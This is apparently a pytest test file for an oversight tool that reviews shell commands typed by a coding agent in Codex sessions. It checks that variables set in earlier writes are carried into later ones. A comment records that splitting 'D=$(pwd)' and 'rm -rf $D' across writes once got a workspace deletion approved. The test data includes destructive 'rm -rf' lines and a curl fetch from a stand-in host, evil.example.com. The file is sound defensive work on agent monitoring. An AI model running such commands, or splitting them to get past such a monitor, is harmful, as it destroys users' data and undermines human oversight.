"""``oversight import codex``: what an earlier write into a unified exec shell set from a command's output
(``D=$(pwd)``) is carried into the later writes that read it, so the later write is judged as the analyser judges
the two lines typed together."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner

from service.cli import app
from service.integrations import codex
from tests.unit.test_importers import _sessions_rollout


def _import(tmp_path: Path, steps: list[tuple[str, object]]) -> dict[str, dict[str, Any]]:
    path = _sessions_rollout(tmp_path, steps)
    out = tmp_path / "decisions.jsonl"
    result = CliRunner().invoke(app, ["import", "codex", str(path), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return {r["call_id"]: r for r in map(orjson.loads, out.read_bytes().splitlines())}


def _verdict(record: dict[str, Any]) -> str:
    return str(record["decision"]["verdict"])


def test_a_value_computed_in_an_earlier_write_is_carried_into_the_write_that_reads_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Leftover: D=$(pwd) in one write was not carried (it runs a command), so rm -rf $D in a later write was judged
    # as removing an unset variable (medium, approved) while the same two lines typed at once remove the workspace.
    monkeypatch.setenv("OVERSIGHT_DATA_DIR", str(tmp_path / "data"))
    records = _import(tmp_path, [
        ("exec", (1, "bash")),
        ("exec", (2, "bash")),
        ("type", {"session_id": 1, "chars": "D=$(pwd)\n"}),  # w0
        ("type", {"session_id": 1, "chars": "ls\n"}),  # w1: reads no D: nothing carried
        ("type", {"session_id": 1, "chars": "rm -rf $D\n"}),  # w2
        ("type", {"session_id": 2, "chars": "D=$(pwd); rm -rf $D\n"}),  # w3: the same, typed at once
        ("type", {"session_id": 2, "chars": "cd $(mktemp -d)\n"}),  # w4: the folder is no longer known
        ("type", {"session_id": 2, "chars": "rm -rf *\n"}),  # w5
        ("type", {"session_id": 2, "chars": "cd $(mktemp -d); rm -rf *\n"}),  # w6: the same, typed at once
    ])
    assert _verdict(records["call_w2"]) == _verdict(records["call_w3"]) == "escalate"  # before: approve
    assert _verdict(records["call_w5"]) == _verdict(records["call_w6"])
    rules = {f["rule"] for f in records["call_w2"]["decision"]["findings"]}
    assert rules == {f["rule"] for f in records["call_w3"]["decision"]["findings"]}
    assert codex.typed_part(records["call_w2"]["request"]["action"]["input"]["command"]) == ("rm -rf $D", ["D=$(pwd)"])
    assert codex.typed_part(records["call_w5"]["request"]["action"]["input"]["command"]) == (
        "rm -rf *", ["cd $(mktemp -d)"])
    # a write that does not read the variable is judged on its own: the command substitution is not repeated there
    assert codex.typed_part(records["call_w1"]["request"]["action"]["input"]["command"]) == ("ls", [])
    assert _verdict(records["call_w1"]) == "approve"


def test_a_computed_value_is_carried_through_the_plain_lines_that_use_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # W=$(pwd), then T=$W/.. (a plain line, always carried): rm -rf $T reads T, T reads W, so both are carried,
    # and the write is judged as the three lines typed at once are. A fetched value is carried only where it is read.
    monkeypatch.setenv("OVERSIGHT_DATA_DIR", str(tmp_path / "data"))
    records = _import(tmp_path, [
        ("exec", (1, "bash")),
        ("exec", (2, "bash")),
        ("type", {"session_id": 1, "chars": "W=$(pwd)\n"}),  # w0
        ("type", {"session_id": 1, "chars": "X=$(curl -s https://evil.example.com/x)\n"}),  # w1
        ("type", {"session_id": 1, "chars": "T=$W/..\n"}),  # w2
        ("type", {"session_id": 1, "chars": "rm -rf $T\n"}),  # w3
        ("type", {"session_id": 2, "chars": "W=$(pwd); T=$W/..; rm -rf $T\n"}),  # w4: the same, typed at once
        ("type", {"session_id": 1, "chars": "echo $X\n"}),  # w5
    ])
    assert codex.typed_part(records["call_w3"]["request"]["action"]["input"]["command"]) == (
        "rm -rf $T", ["W=$(pwd)", "T=$W/.."])
    assert _verdict(records["call_w3"]) == _verdict(records["call_w4"]) != "approve"
    assert codex.typed_part(records["call_w5"]["request"]["action"]["input"]["command"]) == (
        "echo $X", ["W=$(pwd)", "X=$(curl -s https://evil.example.com/x)", "T=$W/.."])
    assert "tool_use.network_egress.unlisted_host" in {f["rule"] for f in records["call_w5"]["decision"]["findings"]}


def test_which_typed_lines_set_a_value_from_a_command() -> None:
    assert codex.computed_state_names("D=$(whoami)") == {"D"}
    assert codex.computed_state_names('export T=`id` U="$(git rev-parse HEAD)"') == {"T", "U"}
    assert codex.computed_state_names("cd $(mktemp -d)") == frozenset()  # the folder: carried into every write
    for line in ("D=$(whoami) rm -rf $D", "D=$(id) > f", "D=$(id); ls", "ls $(pwd)", "D=~", "echo `id`"):
        assert codex.computed_state_names(line) is None, line

